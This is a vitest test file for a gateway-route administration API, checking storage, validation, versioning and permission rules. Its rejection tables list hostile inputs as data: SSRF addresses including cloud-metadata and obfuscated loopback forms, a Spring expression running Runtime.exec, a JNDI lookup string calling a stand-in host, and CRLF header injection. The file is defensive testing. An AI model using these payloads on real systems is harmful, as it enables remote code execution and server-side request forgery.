import { beforeAll, describe, expect, test } from 'vitest';
import { testServer, type TestClient, type TestServer } from '../../../../test/testServer.ts';
import { problemOfUri, readItems } from './routeItems.ts';

let server: TestServer;
let boss: TestClient;

beforeAll(async () => {
  server = await testServer({ shared: true });
  boss = server.as('boss');
});

const route = (change: object = {}) => ({
  id: 'freight',
  name: '货运服务',
  uri: 'http://freight.internal:8080',
  predicates: [{ name: 'Path', args: ['/freight/**'] }],
  filters: [{ name: 'AddRequestHeader', args: { name: 'X-From', value: 'gateway' } }],
  stripPrefix: 1,
  ...change,
});
const save = (router: object, by = boss) => by.post('/sys/gatewayRoute/updateAll', { router });
const replace = (routes: unknown, by = boss) =>
  by.post('/sys/gatewayRoute/updateAll', { routes: typeof routes === 'string' ? routes : JSON.stringify(routes) });
const list = async (by = boss) => (await by.get('/sys/gatewayRoute/list')).result;

test('SYS-16 routes are stored one by one or all at once, and served to a gateway as it reads them', async () => {
  expect(await save(route())).toMatchObject({ success: true, message: '操作成功！' });
  expect(await list()).toMatchObject([
    {
      id: 'freight',
      predicates: [{ name: 'Path', args: ['/freight/**'] }],
      filters: [{ name: 'AddRequestHeader', args: ['X-From', 'gateway'] }],
      status: 1,
      status_dictText: expect.any(String),
      version: 0,
    },
  ]);
  const before = (await boss.get('/sys/gatewayRoute/definitions')).result;
  expect(before.routes).toEqual([
    {
      id: 'freight',
      uri: 'http://freight.internal:8080',
      order: 0,
      predicates: [{ name: 'Path', args: { _genkey_0: '/freight/**' } }],
      filters: [
        { name: 'AddRequestHeader', args: { _genkey_0: 'X-From', _genkey_1: 'gateway' } },
        { name: 'StripPrefix', args: { _genkey_0: '1' } },
      ],
      metadata: { name: '货运服务' },
    },
  ]);

  expect(await save(route({ version: 0, status: 0 }))).toMatchObject({ success: true });
  expect(await save(route({ version: 0 }))).toMatchObject({ status: 409 });
  const after = (await boss.get('/sys/gatewayRoute/definitions')).result;
  expect(after.routes).toEqual([]);
  expect(after.version).not.toBe(before.version);
  expect(await save({ ...route(), id: undefined, name: '另一条' })).toMatchObject({ success: true });
  expect(await list()).toHaveLength(2);

  expect(
    await replace([route({ id: 'only', predicates: [{ name: 'Path', args: { _genkey_0: '/a/**', _genkey_1: '/b/**' } }] })]),
  ).toMatchObject({
    success: true,
  });
  expect(await list()).toMatchObject([{ id: 'only', predicates: [{ name: 'Path', args: ['/a/**', '/b/**'] }] }]);
  // What stock installations write: a service by its name, and null for what is not set.
  const unset = { stripPrefix: null, retryable: null, persist: null, showApi: null };
  expect(await replace([route({ id: 'only', uri: 'lb://jeecg-system', filters: [], ...unset })])).toMatchObject({ success: true });
  expect((await boss.get('/sys/gatewayRoute/definitions')).result.routes).toMatchObject([{ id: 'only', uri: 'lb://jeecg-system' }]);
  expect(await boss.get('/sys/gatewayRoute/clearRedis')).toMatchObject({ success: true, message: '清除成功！' });
  expect(await boss.delete('/sys/gatewayRoute/delete', { id: 'only' })).toMatchObject({ success: true });
  expect(await boss.delete('/sys/gatewayRoute/delete', { id: 'only' })).toMatchObject({ status: 404 });
});

test('SYS-16 a client of the 2.4 line stores a route with its conditions as text', async () => {
  const text = { predicates: '[{"name":"Path","args":["/eoa/**"]}]', filters: '[]', status: true };
  expect(await save(route({ id: 'eoa', stripPrefix: 0, ...text }))).toMatchObject({ success: true });
  const one = async () => (await list()).find(({ id }: { id: string }) => id === 'eoa');
  expect(await one()).toMatchObject({ predicates: [{ name: 'Path', args: ['/eoa/**'] }], filters: [], status: 1 });
  for (const [change, message] of [
    [{ predicates: '[]' }, '路由“货运服务”：至少需要一个断言'],
    [{ predicates: '' }, '路由“货运服务”：至少需要一个断言'],
    [{ predicates: '{"name":"Path"}' }, '路由“货运服务”：predicates 不是 JSON 列表'],
    [{ filters: 'x' }, '路由“货运服务”：filters 不是 JSON 列表'],
    [
      { filters: '[{"name":"RequestRateLimiter","args":[{"key":"key-resolver","value":"#{@ipKeyResolver}"}]}]' },
      '路由“货运服务”：不支持的过滤器“RequestRateLimiter”',
    ],
  ] as const)
    expect(await save(route({ id: 'eoa', ...text, ...change })), message).toMatchObject({ status: 400, message });
  expect(await one()).toMatchObject({ predicates: [{ name: 'Path' }], filters: [] });
  await boss.delete('/sys/gatewayRoute/delete', { id: 'eoa' });
});

test('SYS-16 what is wrong with one route keeps all as they were', async () => {
  await replace([route({ id: 'stays' })]);
  for (const [routes, message] of [
    ['[]', '未录入任何信息'],
    ['', '路由不是 JSON 列表'],
    ['{"a":1}', '未录入任何信息'],
    [[route(), route()], '路由编号“freight”重复'],
    [[route(), route({ id: 'x', predicates: [] })], '第 2 条路由的 predicates 不正确'],
    [[route(), route({ id: 'x', uri: 'ws://jeecg-system' })], '路由“货运服务”：服务地址只能是 http、https 或 lb://服务名'],
    [[route({ id: '../x' })], '第 1 条路由的 id 不正确'],
    [[route({ id: 'x', predicates: [{ name: 'Path', args: ['/\ud800/**'] }] })], '参数含有不允许的字符'],
  ] as const)
    expect(await replace(routes), message).toMatchObject({ status: 400, message });
  expect((await list()).map((one: { id: string }) => one.id)).toEqual(['stays']);
});

describe('SYS-16 what a route may hold', () => {
  test.each(['http://10.0.0.5:8080', 'https://api.example.com/base', 'http://[fd00::5]/', 'lb://jeecg-system', 'lb://A1'])(
    '%s is a place',
    (uri) => {
      expect(problemOfUri(uri)).toBeUndefined();
    },
  );
  test.each([
    'ftp://h/x',
    'file:///etc/passwd',
    'lb://',
    'lb://localhost',
    'lb://127.0.0.1',
    'lb://2130706433',
    'lb://[::1]',
    'lb://name:80',
    'lb://user@name',
    'lb://name/path',
    'lb://name?a=1',
    'lb://#{name}',
    'lb:ws://name',
    'ws://h',
    'javascript:alert(1)',
    '//h',
    'h:80',
    'http://',
    'http://user:secret@h',
    'http://h/#{T(java.lang.Runtime).getRuntime()}',
    'http://h/?a=1',
    'http://localhost:8080',
    'http://LOCALHOST.',
    'http://a.localhost',
    'http://127.0.0.1',
    'http://127.1',
    'http://2130706433',
    'http://0x7f.0.0.1',
    'http://017700000001',
    'http://0.0.0.0',
    'http://0',
    'http://[::]',
    'http://[::1]',
    'http://[::ffff:127.0.0.1]',
    'http://[::ffff:169.254.169.254]',
    'http://169.254.169.254/latest/meta-data',
    'http://[fe80::1]',
    'http://[fd00:ec2::254]',
    'http://100.100.100.200',
  ])('%s is none', (uri) => {
    expect(problemOfUri(uri)).toEqual(expect.any(String));
  });

  test.each([
    ['predicates', 'Path', ['/a/**'], ['/a/**']],
    ['predicates', 'Header', { regexp: '\\d+', header: 'X-Id' }, ['X-Id', '\\d+']],
    ['predicates', 'Query', { _genkey_1: 'b', _genkey_0: 'a' }, ['a', 'b']],
    ['filters', 'StripPrefix', [1], ['1']],
    ['filters', 'RewritePath', ['/red/(?<segment>.*)', '/$\\{segment}'], ['/red/(?<segment>.*)', '/$\\{segment}']],
    ['filters', 'SecureHeaders', undefined, []],
  ] as const)('%s %s %j is read', (kind, name, args, list) => {
    expect(readItems(kind, [{ name, args }])).toEqual([{ name, args: list }]);
  });
  test.each([
    ['predicates', 'CloudFoundryRouteService', []],
    ['predicates', 'constructor', ['x']],
    ['predicates', 'Path', []],
    ['predicates', 'Path', ['']],
    ['predicates', 'Path', 'text'],
    ['predicates', 'Path', [{ a: 1 }]],
    ['predicates', 'Header', { evil: 'x' }],
    ['predicates', 'Between', ['one']],
    ['filters', 'RedirectTo', ['302', 'https://evil.example']],
    ['filters', 'ModifyResponseBody', ['x']],
    // An expression of Spring, as gateways have evaluated it.
    ['filters', 'AddResponseHeader', ['Result', "#{new String(T(java.lang.Runtime).getRuntime().exec('id'))}"]],
    ['filters', 'AddResponseHeader', ['Result', '${jndi:ldap://evil/x}']],
    ['filters', 'AddResponseHeader', ['Result', 'a\r\nSet-Cookie: b=c']],
    ['filters', 'StripPrefix', ['-1']],
    ['filters', 'StripPrefix', ['99']],
    ['filters', 'Retry', ['many']],
  ] as const)('%s %s %j is refused', (kind, name, args) => {
    expect(readItems(kind, [{ name, args }])).toEqual(expect.any(String));
  });
});

test('SYS-16 SESS-10 routes ask for permission and keep to staff and tenant', async () => {
  await replace([route({ id: 'own' })]);
  const reader = server.as({ username: 'reader', permissions: ['gatewayRoute:list'] });
  const gateway = server.as({ username: 'gateway', permissions: ['gatewayRoute:serve'] });
  const guest = server.as({ username: 'guest', userType: 2, cid: 'c1' });
  const elsewhere = server.as({ username: 'elsewhere', tenantId: 2 });

  expect(await reader.get('/sys/gatewayRoute/definitions')).toMatchObject({ status: 403 });
  expect(await save(route(), reader)).toMatchObject({ status: 403 });
  expect(await gateway.get('/sys/gatewayRoute/list')).toMatchObject({ status: 403 });
  expect((await gateway.get('/sys/gatewayRoute/definitions')).result.routes).toHaveLength(1);
  expect(await save(route(), guest)).toMatchObject({ status: 403 });
  for (const one of [guest, elsewhere]) expect(await list(one), one.username).toEqual([]);
  expect(await elsewhere.delete('/sys/gatewayRoute/delete', { id: 'own' })).toMatchObject({ status: 404 });
  expect(await save(route({ id: 'own', name: '同号' }), elsewhere)).toMatchObject({ success: true });
  expect(await list()).toMatchObject([{ name: '货运服务' }]);
});
